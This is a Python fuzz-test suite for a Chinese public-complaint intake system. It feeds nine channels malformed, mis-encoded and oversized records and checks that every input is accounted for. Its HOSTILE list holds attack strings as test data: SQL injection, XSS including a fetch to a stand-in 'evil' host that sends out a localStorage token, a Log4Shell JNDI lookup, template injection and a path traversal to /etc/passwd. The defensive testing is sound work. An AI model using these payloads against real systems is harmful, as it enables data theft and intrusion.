"""Abuse of every intake channel: whatever arrives, nothing crashes and every input is
accounted for as accepted, duplicate, filtered (police business) or dead-lettered.

Inputs: records of each channel whose fields are replaced by hostile values (invalid UTF-8,
GB18030 lines inside UTF-8 files, control characters, SQL and HTML, emoji and rare CJK,
deeply nested JSON, wrong types, missing keys), random bytes, CSV files in GB18030 or UTF-8,
and 10 MB fields. Checked twice:

- at the adapters (``adapt``): one outcome per input, never an exception. Short (CI): a few
  thousand inputs; long (SANSHI_FAULTS_LONG=1): a million.
- through the whole intake (``ingest`` into an in-memory engine): the report's counts add up to
  the inputs, each accepted or duplicate case is in the log, each dead letter in its store,
  and complaint text with SQL or markup is stored exactly as sent (NFC).
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import time
import unicodedata
from collections import Counter
from collections.abc import Iterator
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from adapters.bootstrap import Runtime, bootstrap
from adapters.channels import CHANNELS, DeadLetter, Filtered, Parsed, adapt, read_one, read_stream
from adapters.channels.reading import MAX_RECORD_BYTES, FileRefused
from adapters.transport import IngestReport, dead_letter_store, ingest
from engine.settings import Settings
from tests.faults.support import LONG, size

HYPOTHESIS_INPUTS = size(1_500, 60_000)  # at the adapters, over all channels (hypothesis)
RANDOM_INPUTS = size(8_000, 1_000_000)  # at the adapters, seeded mutation fuzzer (fast)
PIPELINE_INPUTS = size(600, 60_000)  # through ingest into the engine
PER_EXAMPLE = 25  # inputs in one generated file, on average about half of it
INPUTS_PER_EXAMPLE = 8  # measured: hypothesis keeps most generated files short
ADAPTER_EXAMPLES = max(30, HYPOTHESIS_INPUTS // (len(CHANNELS) * INPUTS_PER_EXAMPLE))
PIPELINE_EXAMPLES = max(30, PIPELINE_INPUTS // INPUTS_PER_EXAMPLE)

KINDS = (Parsed, Filtered, DeadLetter)
FUZZ = settings(
    deadline=None,
    suppress_health_check=list(HealthCheck),
    derandomize=not LONG,  # CI: the same inputs every run; long run: new ones
    database=None,
)

TEMPLATES: dict[str, dict[str, Any]] = {
    "hotline": {
        "order_no": "BH1", "received_at": "2026-09-21 09:30:00", "caller_phone": "13877912345",
        "caller_name": "庞女士", "content": "茶亭路幸福里小区没有路灯", "address": "海城区茶亭路",
        "appeal_type": "求助", "urgency": "一般", "category": "municipal",
    },
    "police": {
        "incident_no": "JQ1", "received_at": "2026-09-21T08:12:00+08:00",
        "caller_phone": "15150001234", "caller_name": "孔德明", "location": "海城区中街",
        "summary": "报警人称与物业因停车费发生争执", "police_category": "纠纷",
        "sub_category": "物业纠纷",
    },
    "app": {
        "submission_id": "s1", "user_id": "u1", "phone": "13877900001",
        "content": "门窗纱网破了", "address": "海城区东街", "lat": 21.48, "lng": 109.12,
        "photos": ["https://example.org/1.jpg"], "concern": "trouble",
        "received_at": "2026-09-21 10:00",
    },
    "walkin": {
        "station_id": "jy-chatinglu", "ticket_no": "0001", "staff_id": "gw017",
        "resident_name": "梁崇玉", "phone": "13977905555", "content": "孙子入学手续缺失",
        "address": "海城区茶亭路社区", "on_behalf": "false", "received_at": "2026-09-21 09:00",
    },
    "grid": {
        "report_no": "GR1", "grid_worker_id": "gw017", "grid_id": "茶亭路社区第3网格",
        "received_at": "2026-09-21 09:30", "content": "独居老人家中水管漏水", "on_behalf": "是",
        "resident_name": "梁崇玉", "resident_phone": "13977905555", "consent": "是",
        "consent_method": "签字", "consent_at": "2026-09-21 09:20", "address": "海城区茶亭路社区",
    },
    "enterprise": {
        "request_no": "QH1", "received_at": "2026-09-21 09:00", "enterprise_name": "北海海韵食品有限公司",
        "credit_code": "91450500MA5K2B7C3C", "contact_name": "覃志刚", "contact_phone": "13977911111",
        "content": "冷库申请用电增容两个月未接电", "address": "海城区工业园区",
    },
}
TEMPLATES |= {
    "media": {
        "outlet": "北海日报", "title": "路灯不亮", "url": "https://news.example.cn/1",
        "published_at": "2026-09-21 07:30", "passage": "茶亭路幸福里小区路灯坏了一个月",
        "address": "海城区茶亭路", "urgency": "一般",
    },
    "court": {
        "case_no": "（2026）桂0502民诉前调1号", "received_at": "2026-09-21 10:00",
        "dispute_type": "相邻关系纠纷", "summary": "楼上漏水至楼下", "applicant_name": "黄丽华",
        "applicant_phone": "13977912001", "respondent_name": "陈国强", "address": "海城区茶亭路26号",
    },
    "town": {
        "request_no": "ZJ-1", "street": "zhongjie", "received_at": "2026-09-21 09:00",
        "content": "珠海路积水，请求住建局改造管网", "department": "zhujian",
    },
}
REF_KEY = {"hotline": "order_no", "police": "incident_no", "app": "submission_id", "walkin": "ticket_no",
           "grid": "report_no", "enterprise": "request_no", "media": "url", "court": "case_no",
           "town": "request_no"}
TEXT_KEY = {"hotline": "content", "police": "summary", "app": "content", "walkin": "content",
            "grid": "content", "enterprise": "content", "media": "passage", "court": "summary",
            "town": "content"}


def ref(channel: str, prefix: str, *numbers: int) -> str:
    """A record number of the channel's own form (a report's address, a court case number)."""
    if channel == "media":
        return f"https://news.example.cn/{prefix}/{'-'.join(map(str, numbers))}"
    if channel == "court":
        return f"（2026）桂0502民诉前调{''.join(str(x) for x in numbers)}号"
    return f"{prefix}{'-'.join(map(str, numbers))}"


HOSTILE = [
    "'; DROP TABLE stored_events; --",
    "1' OR '1'='1",
    "\" ; DELETE FROM view_cases WHERE ''='",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=\"fetch('//evil/'+localStorage.token)\">",
    "</textarea><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://example.org/a}",
    "%s%s%n%x",
    "../../../../etc/passwd",
    "\u202e\u0645\u0631\u062d\u0628\u0627",
    "\ufeff\u200b\u200d",
    "𠀀𪚥𠮷😀👨‍👩‍👧",
    "ｆｕｌｌｗｉｄｔｈ　全角",
    "e\u0301 cafe\u0301",
    "\x00\x01\x07\x1b[31m\x7f",
    "\r\n\r\n",
    "null",
    "NaN",
    "-1e999",
    "一" * 4000,
    "一" * 4001,
]

texts = st.one_of(
    st.text(max_size=60),
    st.sampled_from(HOSTILE),
    st.tuples(st.text(max_size=20), st.sampled_from(HOSTILE), st.text(max_size=20)).map("".join),
)
json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(texts, inner, max_size=4),
    max_leaves=12,
)


@st.composite
def json_line(draw: st.DrawFn, channel: str, n: int) -> bytes:
    # n comes from a draw too (see json_file): a strategy that read outside state would
    # generate differently when hypothesis replays an example to shrink it.
    """One line of a JSON-lines file: a hostile variant of a good record, or junk."""
    shape = draw(st.integers(0, 9))
    if shape == 0:
        return draw(st.binary(min_size=1, max_size=200))
    if shape == 1:
        depth = draw(st.integers(50, 5000))
        return b'{"content": ' + b"[" * depth + b"]" * depth + b"}"
    record = dict(TEMPLATES[channel])
    record[REF_KEY[channel]] = ref(channel, "F", n, draw(st.integers(0, 40)))  # repeats are duplicates
    for _ in range(draw(st.integers(0, 4))):
        key = draw(st.sampled_from([*record, "extra_field", "内容"]))
        action = draw(st.integers(0, 3))
        if action == 0:
            record.pop(key, None)
        elif action == 1:
            record[key] = draw(json_values)
        else:
            record[key] = draw(texts)
    line = json.dumps(record, ensure_ascii=draw(st.booleans()))
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "gb18030", "utf-16"]))
    data = line.encode(encoding, "surrogatepass")
    if draw(st.integers(0, 4)) == 0:  # a few flipped bytes
        cut = draw(st.integers(0, len(data)))
        data = data[:cut] + draw(st.binary(min_size=1, max_size=4)) + data[cut:]
    return data


@st.composite
def json_file(draw: st.DrawFn, channel: str) -> bytes:
    n = draw(st.integers(0, 10**6))
    lines = draw(st.lists(json_line(channel, n), min_size=1, max_size=PER_EXAMPLE))
    sep = draw(st.sampled_from([b"\n", b"\r\n"]))
    return (codecs.BOM_UTF8 if draw(st.booleans()) else b"") + sep.join(lines)


@st.composite
def csv_file(draw: st.DrawFn, channel: str) -> bytes:
    n = draw(st.integers(0, 10**6))
    keys = list(TEMPLATES[channel])
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(keys)
    for _ in range(draw(st.integers(1, PER_EXAMPLE))):
        record = {k: str(v) for k, v in TEMPLATES[channel].items()}
        record[REF_KEY[channel]] = ref(channel, "C", n, draw(st.integers(0, 40)))
        for key in draw(st.lists(st.sampled_from(keys), max_size=3)):
            record[key] = draw(texts)
        writer.writerow([record[k] for k in keys])
    encoding = draw(st.sampled_from(["gb18030", "utf-8-sig", "utf-8"]))
    data = out.getvalue().encode(encoding, "replace")
    if draw(st.booleans()):
        cut = draw(st.integers(0, len(data)))
        data = data[:cut] + draw(st.binary(min_size=1, max_size=6)) + data[cut:]
    return data


refused_files: Counter[str] = Counter()


def _inputs(blob: bytes, name: str) -> list[Any]:
    """The file's records; none when the file is refused as a whole (UTF-16, Big5: issue 14),
    which is an outcome too: `sanshi ingest` says so once and takes nothing from it."""
    try:
        return list(read_stream(io.BytesIO(blob), name))
    except FileRefused as refusal:
        assert name in str(refusal) and "编码" in str(refusal), refusal
        refused_files[name.split(".")[-1]] += 1
        return []


# ---- at the adapters ---------------------------------------------------------------------

_adapter_inputs: Counter[str] = Counter()


@pytest.mark.parametrize("channel", sorted(CHANNELS))
def test_adapters_take_anything(channel: str) -> None:
    counter = iter(range(10**9))
    started = time.monotonic()

    @settings(FUZZ, max_examples=ADAPTER_EXAMPLES)
    @given(data=st.data())
    def run(data: Any) -> None:
        n = next(counter)
        as_csv = data.draw(st.integers(0, 4)) == 0
        blob = data.draw(csv_file(channel) if as_csv else json_file(channel))
        name = f"fuzz{n}.{'csv' if as_csv else 'jsonl'}"
        records = _inputs(blob, name)
        outcomes = [adapt(channel, raw) for raw in records]
        assert all(isinstance(o, KINDS) for o in outcomes)
        positions = [o.position for o in outcomes]
        assert len(positions) == len(set(positions)), "two outcomes for one input"
        for o in outcomes:
            if isinstance(o, Parsed):
                assert len(o.command.content) <= 4000
                json.loads(o.command.model_dump_json())
        _adapter_inputs[channel] += len(records)

    run()
    took = time.monotonic() - started
    print(f"\nfuzz {channel}: {_adapter_inputs[channel]:,} inputs at the adapter in {took:.0f}s, "
          f"0 crashes")


def random_line(rng: random.Random, channel: str, n: int) -> bytes:
    """The same kinds of hostile lines as :func:`json_line`, from a seeded ``random`` at a
    thousand times hypothesis's speed: the long run's million inputs."""
    shape = rng.randrange(10)
    if shape == 0:
        return rng.randbytes(rng.randint(1, 200))
    if shape == 1:
        depth = rng.randint(50, 5000)
        return b'{"content": ' + b"[" * depth + b"]" * depth + b"}"
    record = dict(TEMPLATES[channel])
    record[REF_KEY[channel]] = ref(channel, "R", n)
    keys = [*record, "extra_field", "内容"]
    for _ in range(rng.randint(0, 4)):
        key = rng.choice(keys)
        action = rng.randrange(5)
        if action == 0:
            record.pop(key, None)
        elif action == 1:
            record[key] = rng.choice([None, True, 0, -1, 2**70, 1.5e308, [], {}, [[["x"]]],
                                      {"a": {"b": ["<b>"]}}, ["13812345678"]])
        elif action == 2:
            record[key] = rng.choice(HOSTILE)
        elif action == 3:
            record[key] = "".join(chr(rng.choice([rng.randint(0, 0x7F), rng.randint(0x4E00, 0x9FFF),
                                                  rng.randint(0x20000, 0x2A6DF), rng.randint(0x80, 0x2FFF)]))
                                  for _ in range(rng.randint(0, 40)))
        else:
            record[key] = str(record.get(key, "")) + rng.choice(HOSTILE)
    line = json.dumps(record, ensure_ascii=rng.random() < 0.3)
    encoding = rng.choice(["utf-8", "utf-8", "gb18030", "utf-16", "big5"])
    data = line.encode(encoding, "replace")
    if rng.random() < 0.2:
        cut = rng.randint(0, len(data))
        data = data[:cut] + rng.randbytes(rng.randint(1, 4)) + data[cut:]
    return data


def test_adapters_take_a_million_random_inputs() -> None:
    """Long run: a million; CI: a few thousand, so that the generator itself stays right."""
    rng = random.Random(20260921 if not LONG else time.time_ns())
    inputs: Counter[str] = Counter()
    outcomes: Counter[str] = Counter()
    started = time.monotonic()
    n = 0
    while sum(inputs.values()) < RANDOM_INPUTS:
        n += 1
        channel = rng.choice(sorted(CHANNELS))
        blob = b"\n".join(random_line(rng, channel, n * 100 + i) for i in range(rng.randint(1, 50)))
        records = _inputs(blob, f"rand{n}.jsonl")
        results = [adapt(channel, raw) for raw in records]
        assert all(isinstance(o, KINDS) for o in results)
        assert len({o.position for o in results}) == len(results)
        inputs[channel] += len(records)
        outcomes.update(type(o).__name__ for o in results)
    took = time.monotonic() - started
    print(f"\nrandom fuzz: {sum(inputs.values()):,} inputs ({dict(inputs)}) in {took:.0f}s, 0 crashes; "
          f"{dict(outcomes)}")


def test_ten_megabyte_fields_are_dead_letters_with_their_size() -> None:
    for channel in sorted(CHANNELS):
        record = dict(TEMPLATES[channel])
        record[TEXT_KEY[channel]] = "长" * 3_500_000  # 10.5 MB of UTF-8
        body = json.dumps(record, ensure_ascii=False).encode()
        for raw in [read_one(body), *_inputs(body + b"\n" + body, "big.jsonl")]:
            outcome = adapt(channel, raw)
            assert isinstance(outcome, DeadLetter), channel
            assert outcome.raw_size >= len(body) and len(outcome.raw) <= MAX_RECORD_BYTES
            assert "256 KiB" in outcome.reason


# ---- through the whole intake --------------------------------------------------------------


@pytest.fixture(scope="module")
def engine_runtime() -> Iterator[Runtime]:
    runtime = bootstrap(Settings.from_env({"SANSHI_DB": "memory://"}))
    yield runtime
    runtime.close()


def test_every_input_is_accounted_for_through_the_intake(engine_runtime: Runtime) -> None:
    rt = engine_runtime
    totals: Counter[str] = Counter()
    counter = iter(range(10**9))
    letters_before = dead_letter_store(rt).count()

    @settings(FUZZ, max_examples=PIPELINE_EXAMPLES)
    @given(data=st.data())
    def run(data: Any) -> None:
        n = next(counter)
        channel = data.draw(st.sampled_from(sorted(CHANNELS)))
        as_csv = data.draw(st.integers(0, 4)) == 0
        blob = data.draw(csv_file(channel) if as_csv else json_file(channel))
        name = f"pipe{n}.{'csv' if as_csv else 'jsonl'}"
        records = _inputs(blob, name)
        report = IngestReport(mode="embedded")
        outcomes: list[Any] = []
        ingest(rt, channel, iter(records), source=name, report=report, on_outcome=outcomes.append)
        assert report.records == len(records) == len(outcomes)
        assert report.counts["failed"] == report.counts["queued"] == 0
        for o in outcomes:
            if o.status in ("accepted", "duplicate"):
                assert o.case_id is not None and rt.app.exists(o.case_id)
        totals.update(report.counts)
        totals["inputs"] += len(records)

    run()
    stored = dead_letter_store(rt).count() - letters_before
    assert stored == totals["dead_lettered"]  # each at its own file:line, so none merged
    accounted = sum(totals[s] for s in ("accepted", "duplicate", "filtered", "dead_lettered"))
    assert accounted == totals["inputs"]
    print(f"\nfuzz through the intake: {totals['inputs']:,} inputs = {totals['accepted']:,} accepted"
          f" + {totals['duplicate']:,} duplicate + {totals['filtered']:,} filtered + "
          f"{totals['dead_lettered']:,} dead-lettered; {stored:,} distinct dead letters stored")


@settings(FUZZ, max_examples=size(60, 2_000))
@given(channel=st.sampled_from(sorted(CHANNELS)), text=st.sampled_from(HOSTILE[:12]) | texts,
       tail=st.text(alphabet="路灯坏了请修理", min_size=2, max_size=10))
def test_markup_and_sql_in_complaints_are_stored_as_sent(
    engine_runtime: Runtime, channel: str, text: str, tail: str
) -> None:
    content = f"{text}{tail}"
    record = dict(TEMPLATES[channel])
    record[REF_KEY[channel]] = ref(channel, "V", abs(hash((channel, content))))
    record[TEXT_KEY[channel]] = content
    if channel == "police":
        record["caller_name"] = ""
    outcome = adapt(channel, read_one(json.dumps(record, ensure_ascii=False).encode()))
    clean = unicodedata.normalize("NFC", content)
    printable = all(unicodedata.category(c)[0] != "C" or c in "\t\n" for c in clean)
    if not isinstance(outcome, Parsed) or not printable or len(clean) > 4000 or not clean.strip():
        return  # control characters are removed (and said so); too long is a dead letter
    if channel in ("police", "town", "court") and any(ch.isdigit() for ch in clean):
        return  # desensitised before it leaves the adapter (numbers masked): not verbatim
    assert outcome.command.content == clean.strip() or outcome.command.content == clean
    result = engine_runtime.app.receive(outcome.command)
    assert engine_runtime.app.get_case(result.case_id).content == outcome.command.content
